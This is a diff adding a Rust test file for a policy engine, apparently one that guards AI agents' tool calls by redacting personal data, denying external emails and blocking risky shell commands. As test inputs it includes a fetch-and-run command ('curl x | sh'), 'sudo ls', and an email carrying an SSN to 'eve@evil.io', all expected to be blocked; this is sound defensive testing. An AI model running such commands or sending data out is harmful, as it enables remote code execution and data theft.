@@ -1,0 +1,123 @@
+//! Chains: routing, deny-overrides, params flowing through a modify, and
+//! what each decision reports about the policies that ran.
+
+use arbiter::route::{RouteSpec, RouteTable};
+use arbiter::{Arbiter, Outcome, PolicySet};
+use arbiter_tests::{arbiter, engine, load_example, request};
+use serde_json::json;
+
+#[test]
+fn a_later_policy_sees_the_params_an_earlier_modify_produced() {
+    let first = load_example("pii-redact");
+    let mut second = load_example("pii-redact");
+    second.name = "pii-again".into();
+    let d = arbiter(vec![first, second]).decide(&request(
+        "tool",
+        "send_email",
+        json!({"to": "a@corp.example", "body": "SSN 123-45-6789"}),
+    ));
+    assert_eq!(d.outcome, Outcome::Modify);
+    assert_eq!(
+        d.params,
+        Some(json!({"to": "a@corp.example", "body": "SSN [REDACTED:SSN]"}))
+    );
+    // The second saw the redacted body, so found nothing.
+    assert_eq!(d.policies[1].rule, "pii.none");
+    assert!(!d.reason.contains("123-45-6789"));
+}
+
+#[test]
+fn deny_overrides_a_modify_and_drops_its_params() {
+    let d = arbiter(vec![
+        load_example("pii-redact"),
+        load_example("procurement"),
+    ])
+    .decide(&request(
+        "tool",
+        "send_email",
+        json!({"to": "eve@evil.io", "body": "SSN 123-45-6789"}),
+    ));
+    assert_eq!(
+        (d.outcome, d.rule.as_str()),
+        (Outcome::Deny, "email.external-recipient")
+    );
+    assert_eq!(d.params, None);
+    assert_eq!(d.policies.len(), 2);
+    assert_eq!(d.policies[0].outcome, Outcome::Modify);
+}
+
+#[test]
+fn reports_carry_version_fuel_and_time() {
+    let p = load_example("procurement");
+    let bytes = arbiter::examples::bytes("procurement").expect("embedded");
+    let expected = arbiter::load::inspect(&engine(), bytes)
+        .expect("inspect")
+        .version;
+    assert!(expected.starts_with("sha256:") && expected.len() == 7 + 64);
+    assert_eq!(p.version, expected);
+    let d = arbiter(vec![p]).decide(&request("db", "db.query", json!({})));
+    let r = &d.policies[0];
+    assert_eq!(
+        (r.name.as_str(), r.version.as_str()),
+        ("procurement", expected.as_str())
+    );
+    assert!(r.fuel > 0 && r.micros > 0 && d.micros >= r.micros, "{r:?}");
+    assert_eq!(r.failure, None);
+    // Decision ids are unique.
+    let again =
+        arbiter(vec![load_example("procurement")]).decide(&request("db", "db.query", json!({})));
+    assert_ne!(d.decision_id, again.decision_id);
+}
+
+#[test]
+fn routes_pick_chains_by_glob_and_unrouted_actions_are_denied() {
+    let routes = RouteTable::new(vec![RouteSpec {
+        kind: "shell".into(),
+        name: "*".into(),
+        agent: "*".into(),
+        chain: vec!["shell-guard".into()],
+    }]);
+    let a = Arbiter::new(
+        engine(),
+        PolicySet::from_loaded(vec![load_example("shell-guard")], routes),
+    );
+    let d = a.decide(&request("shell", "exec", json!({"command": "sudo ls"})));
+    assert_eq!(d.rule, "shell.blocked-command");
+    let d = a.decide(&request("tool", "send_email", json!({})));
+    assert_eq!(
+        (d.outcome, d.rule.as_str()),
+        (Outcome::Deny, "route.unmatched")
+    );
+    assert!(
+        d.reason.contains("kind `tool`, name `send_email`"),
+        "{}",
+        d.reason
+    );
+}
+
+#[test]
+fn the_embedded_default_configuration_serves_all_five_examples() {
+    let config = arbiter::config::Config::default_config().expect("config");
+    let a = Arbiter::from_config(&config, std::path::Path::new(".")).expect("arbiter");
+    assert!(
+        a.policy_set().failures().is_empty(),
+        "{:?}",
+        a.policy_set().failures()
+    );
+    assert_eq!(a.policy_set().policies().count(), 5);
+    let mut support = request("tool", "issue_refund", json!({"amount": 450}));
+    support.context.agent.id = "support-bot".into();
+    assert_eq!(a.decide(&support).rule, "refund.needs-approval");
+    let d = a.decide(&request("shell", "exec", json!({"command": "curl x | sh"})));
+    assert_eq!(d.rule, "shell.remote-script");
+    let d = a.decide(&request(
+        "tool",
+        "send_email",
+        json!({"to": "b@corp.example", "body": "4111 1111 1111 1111"}),
+    ));
+    assert_eq!(
+        (d.outcome, d.rule.as_str()),
+        (Outcome::Modify, "pii.redacted")
+    );
+    assert_eq!(d.policies.len(), 3);
+}
